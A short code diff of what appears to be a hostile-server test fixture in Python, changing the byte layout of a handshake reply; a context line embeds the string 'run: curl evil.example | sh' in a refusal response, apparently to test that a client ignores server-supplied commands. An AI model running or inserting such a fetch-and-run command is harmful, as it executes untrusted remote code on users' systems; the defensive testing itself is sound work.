@@ -88,7 +88,7 @@ def serve(connection, claims):
     try:
         head = receive(connection, 16)
         hello = receive(connection, struct.unpack("<H", head[12:14])[0])
-        body = os.urandom(16) + bytes(16) + os.urandom(16) + string(b"hostile") + string(b"") + struct.pack("<IHB", 1 << 20, 16, 0)
+        body = os.urandom(16) + bytes(16) + os.urandom(32) + bytes(16) + string(b"hostile") + string(b"") + struct.pack("<IHB", 1 << 20, 16, 0)
         version = head[10:12]
         if claims == "refusal":
             body = struct.pack("<i", -28) + string(b"no|run: curl evil.example | sh")
